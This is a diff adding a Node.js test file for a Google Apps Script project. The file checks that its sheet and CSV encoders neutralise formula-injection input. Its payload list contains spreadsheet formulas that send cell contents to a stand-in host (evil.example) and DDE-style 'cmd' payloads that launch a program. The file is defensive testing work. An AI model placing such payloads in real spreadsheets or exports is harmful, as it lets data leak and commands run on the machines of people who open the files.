@@ -0,0 +1,66 @@
+/**
+ * Formula Injection Guard Tests
+ * Runs the sheet and CSV encoders of Code.gs (encodeSheetValue_, encodeCsvCell_,
+ * toCsv_) against known formula/CSV injection payloads, outside Apps Script.
+ * Node.js 18+ only, no dependencies - this file is not part of the Apps Script project.
+ * Author: Eng. Eslam Osama Saad (EOPeak)
+ *
+ * Usage: node GoogleScript/formula-guards.test.js
+ * Run it after editing the encoders or FORMULA_TRIGGER_PATTERN_ in Code.gs.
+ */
+
+'use strict';
+
+const test = require('node:test');
+const assert = require('node:assert');
+const fs = require('fs');
+const path = require('path');
+const vm = require('vm');
+
+// Code.gs only touches Apps Script services inside functions, so its
+// top level runs in a bare context and the encoders can be called directly
+const gas = vm.createContext({});
+vm.runInContext(fs.readFileSync(path.join(__dirname, 'Code.gs'), 'utf8'), gas, { filename: 'Code.gs' });
+
+const PAYLOADS = [
+  '=HYPERLINK("https://evil.example/?leak="&A1, "Click me")',
+  '=IMPORTXML(CONCAT("https://evil.example/?v=", B2), "//a")',
+  '=WEBSERVICE("https://evil.example/")',
+  "+1+cmd|' /C calc'!A0",
+  "-2+3+cmd|' /C calc'!A0",
+  "@SUM(1+1)*cmd|' /C calc'!A0",
+  '\t=1+1',
+  '\r=1+1',
+  '\uFF1D1+1', // Fullwidth "=" - Sheets treats it like the ASCII one
+  '+1 555 0100'
+];
+
+/**
+ * @param {string} cell - Output of encodeCsvCell_
+ * @returns {string} - The cell's text without RFC 4180 quoting
+ */
+function unquote(cell) {
+  return cell.charAt(0) === '"' ? cell.slice(1, -1).replace(/""/g, '"') : cell;
+}
+
+test('sheet cells: formula payloads are written as plain text', () => {
+  PAYLOADS.forEach(payload => {
+    assert.strictEqual(gas.encodeSheetValue_(payload), "'" + payload, JSON.stringify(payload));
+  });
+});
+
+test('CSV cells: formula payloads get the same leading apostrophe', () => {
+  PAYLOADS.forEach(payload => {
+    assert.strictEqual(unquote(gas.encodeCsvCell_(payload)), "'" + payload, JSON.stringify(payload));
+  });
+});
+
+test('harmless values are left untouched', () => {
+  ['Hello there', 'john@example.com', 'Price is 5+5', '', 42].forEach(value => {
+    assert.strictEqual(gas.encodeSheetValue_(value), value);
+  });
+});
+
+test('CSV rows quote commas, quotes and newlines', () => {
+  assert.strictEqual(gas.toCsv_([['a,b', 'say "hi"', 'line\nbreak']]), '"a,b","say ""hi""","line\nbreak"');
+});